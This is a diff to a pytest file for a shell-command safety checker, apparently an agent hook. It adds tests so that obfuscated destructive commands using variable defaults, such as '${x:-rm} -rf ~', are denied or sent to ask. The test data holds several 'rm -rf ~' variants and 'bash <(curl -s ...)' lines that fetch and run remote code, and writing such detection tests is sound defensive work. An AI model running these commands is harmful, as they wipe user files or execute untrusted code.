@@ -106,13 +106,16 @@ ASKED = [
     'cat dirs.txt | while read -r d; do rm -rf "$d/"; done',
     'while read d; do rm -rf "$d"; done <<< "$SOMEWHERE"',
     "eval " * 9 + "'rm -rf ~'",
-    "${x:-rm} -rf ~",
     'alias x="$CMD"; x -rf ~',
     "bash <(curl -s https://example.com/x.sh)",
     "sh < <(curl -s https://example.com/x.sh)",
     "echo " + "{a,b}" * 20,
     "$(date +rm) -rf ~",
 ]
+
+# A variable's default: in a repository's script it is what runs where nobody set the variable, so it is
+# checked as such; where an agent runs the command, the agent may have set the variable in an earlier call.
+DEFAULTED = ["${x:-rm} -rf ~", "x=${x:-rm}; $x -rf ~", "${x-rm} -rf ~"]
 
 # Everyday commands that look like the forms above.
 ALLOWED = [
@@ -178,6 +181,14 @@ def test_an_unknowable_command_or_target_asks_in_every_setting(form):
         assert decision(text) == "ask", text
 
 
+@pytest.mark.parametrize("form", DEFAULTED)
+def test_a_destructive_default_is_denied_in_a_repository_in_every_setting(form):
+    for text in settings(form):
+        found = check_text(text, filename="x.sh")
+        assert decision_for(found) == "deny", text
+        assert "SH301" in {f.rule_id for f in found}, text
+
+
 @pytest.mark.parametrize("form", ALLOWED)
 def test_everyday_look_alikes_stay_allowed(form):
     for text in settings(form):
@@ -205,7 +216,9 @@ def hook_decision(command, project):
 
 @pytest.mark.parametrize(
     "command, expected",
-    [(form, "deny") for form in DENIED] + [(form, "ask") for form in ASKED] + [(form, "allow") for form in ALLOWED],
+    [(form, "deny") for form in DENIED]
+    + [(form, "ask") for form in ASKED + DEFAULTED]
+    + [(form, "allow") for form in ALLOWED],
 )
 def test_the_hook_answers_each_form(project, command, expected):
     assert hook_decision(command, project) == expected
